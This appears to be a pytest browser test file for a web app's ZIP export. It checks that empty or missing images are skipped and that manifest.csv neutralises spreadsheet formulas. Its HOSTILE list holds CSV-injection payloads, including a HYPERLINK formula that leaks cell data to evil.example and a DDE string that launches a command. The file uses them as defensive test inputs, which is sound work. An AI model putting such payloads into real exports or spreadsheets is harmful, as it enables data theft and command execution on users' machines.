"""zip.js in Chromium: a blob that cannot be read or is empty is skipped and named, the rest are packed in order,
and manifest.csv says which image is missing and, first on each row, the prompt's line in the batch."""

import csv
import io
import re
import zipfile

import pytest

pytestmark = pytest.mark.browser

PACK = """async () => {
  const {zipBatch} = await import('/js/zip.js');
  const png = n => new Blob([new Uint8Array([137, 80, 78, 71, 13, 10, 26, 10, n])], {type: 'image/png'});
  // Typed names (a.png...) that say nothing of the line: the manifest's `line` column does.
  const items = ['a', 'b', 'c', 'd', 'e'].map((k, i) => ({position: i + 1, name: k + '.png', prompt: 'p' + k,
    finalPrompt: 'p' + k + ', style', status: 'done', error: null}));
  const batch = {id: 7, createdAt: 1764460800, date: '2026-11-30', model: 'gpt-image-2', width: 1024,
    height: 1024, format: 'png', items};
  // Out of order, an empty blob (b), a record without one (d): packed a, c, e.
  const images = [{position: 5, name: 'e.png', blob: png(5)}, {position: 2, name: 'b.png', blob: new Blob([])},
    {position: 1, name: 'a.png', blob: png(1)}, {position: 4, name: 'd.png', blob: null},
    {position: 3, name: 'c.png', blob: png(3)}];
  const seen = [];
  const zip = await zipBatch(batch, images, (n, total) => seen.push(`${n}/${total}`));
  return {skipped: zip.skipped, name: zip.name, seen,
          bytes: Array.from(new Uint8Array(await zip.blob.arrayBuffer()))};
}"""


@pytest.fixture(params=["sqlite"])
def db_url(request, sqlite_url):
    """The ZIP is built in the browser from data the test makes: SQLite is enough for the page."""
    return sqlite_url


def test_unreadable_or_empty_images_are_skipped_and_named_and_the_rest_are_packed_in_order(page, live_server):
    base, _app = live_server
    page.goto(base + "/")
    result = page.evaluate(PACK)
    assert result["skipped"] == ["b.png", "d.png"]
    assert result["name"] == "images-in-bulk-2026-11-30-7.zip"
    assert result["seen"] == ["0/5", "1/5", "2/5", "3/5", "4/5", "5/5"]
    with zipfile.ZipFile(io.BytesIO(bytes(result["bytes"]))) as archive:
        assert archive.testzip() is None
        assert archive.namelist() == ["a.png", "c.png", "e.png", "manifest.csv"]
        assert archive.read("c.png")[-1] == 3
        manifest = archive.read("manifest.csv").decode("utf-8")
    assert manifest.startswith("\ufeff")
    assert manifest.lstrip("\ufeff").startswith('"line","file_name",')
    rows = list(csv.DictReader(io.StringIO(manifest.lstrip("\ufeff"))))
    assert [(r["line"], r["file_name"], r["status"]) for r in rows] == [
        ("1", "a.png", "done"), ("2", "b.png", "missing"), ("3", "c.png", "done"), ("4", "d.png", "missing"),
        ("5", "e.png", "done")]
    assert rows[0]["final_prompt"] == "pa, style" and rows[0]["size"] == "1024x1024"


# Text a subscriber may type (prompts, names, styles) or an upstream error may carry, built to run as a formula
# in a spreadsheet: at the start of a cell, after a , or ; (where a reader of the other dialect starts a cell),
# behind spaces, tabs or quotes, in full-width forms, across line breaks.
HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click me")',
    "cat;=2+5;",
    "a,-1+1",
    "@SUM(1)",
    "+1",
    "\t=1+1",
    "tab\there;\t@x",
    'say "hi";"=1"',
    "\uff1d1+1",
    "x;\uff0b1, \uff20A1 \uff0d2",
    "  -3",
    "a, =1; +2",
    'he said "=1", "-2"',
    "line\r\n=cmd|' /C calc'!A0",
    "=1;=2,=3",
    "\u3000=1",
    "it's 'fine'; isn't it",
    "",
]
FORMULA_STARTS = tuple("=+-@\uff1d\uff0b\uff0d\uff20\t\r\n")

MANIFEST = """async (hostile) => {
  const {zipBatch} = await import('/js/zip.js');
  const png = new Blob([new Uint8Array([137, 80, 78, 71, 13, 10, 26, 10, 1])], {type: 'image/png'});
  // Names stay file-system safe here (no slash): they are entries of the ZIP too.
  const items = hostile.map((text, i) => ({position: i + 1, name: `${i + 1} ${text.replace(/[\\/\\\\]/g, '')}.png`,
    prompt: text, finalPrompt: text + ';' + text, status: i % 3 ? 'done' : 'failed', error: i % 3 ? null : text}));
  const batch = {id: 9, createdAt: 1764460800, date: '2026-11-30', model: 'gpt-image-2', width: 1024,
    height: 1024, format: 'png', items};
  const images = items.filter((item, i) => i % 3).map(item => ({position: item.position, name: item.name, blob: png}));
  const zip = await zipBatch(batch, images);
  return {names: items.map(item => item.name), bytes: Array.from(new Uint8Array(await zip.blob.arrayBuffer()))};
}"""


def unmarked(cell: str, original: str) -> bool:
    """Whether `cell` is `original` (tab, CR and LF made spaces) with nothing added but ' before formula starts."""
    original = original.replace("\t", " ").replace("\r", " ").replace("\n", " ")
    i = 0
    for j, char in enumerate(cell):
        if i < len(original) and char == original[i]:
            i += 1
        elif char == "'" and re.sub(r'^[\s"]*', "", cell[j + 1:]).startswith(FORMULA_STARTS):
            continue  # a marker the manifest added
        else:
            return False
    return i == len(original)


def test_the_manifest_defuses_formulas_in_both_csv_dialects_and_keeps_the_text(page, live_server):
    base, _app = live_server
    page.goto(base + "/")
    result = page.evaluate(MANIFEST, HOSTILE)
    with zipfile.ZipFile(io.BytesIO(bytes(result["bytes"]))) as archive:
        manifest = archive.read("manifest.csv").decode("utf-8-sig")

    for delimiter in (",", ";"):
        rows = list(csv.reader(io.StringIO(manifest, newline=""), delimiter=delimiter))
        cells = [cell for row in rows for cell in row]
        assert cells, delimiter
        for cell in cells:
            assert not cell.lstrip().startswith(FORMULA_STARTS), (delimiter, cell)
    # Every field is quoted (quotes doubled), every row ends in CRLF: no bare text for a reader to guess at.
    assert re.fullmatch(r'(?:"(?:[^"]|"")*"(?:,|\r\n))+', manifest), manifest

    header, *rows = list(csv.reader(io.StringIO(manifest, newline="")))
    assert header == ["line", "file_name", "prompt", "final_prompt", "model", "size", "format", "status"]
    assert len(rows) == len(HOSTILE)
    for i, (row, text) in enumerate(zip(rows, HOSTILE, strict=True)):
        line, name, prompt, final_prompt, model, size, fmt, status = row
        assert line == str(i + 1), (line, text)
        assert unmarked(name, result["names"][i]), (name, text)
        assert unmarked(prompt, text), (prompt, text)
        assert unmarked(final_prompt, text + ";" + text), (final_prompt, text)
        assert (model, size, fmt) == ("gpt-image-2", "1024x1024", "png")
        assert unmarked(status, "done" if i % 3 else "failed: " + text), (status, text)
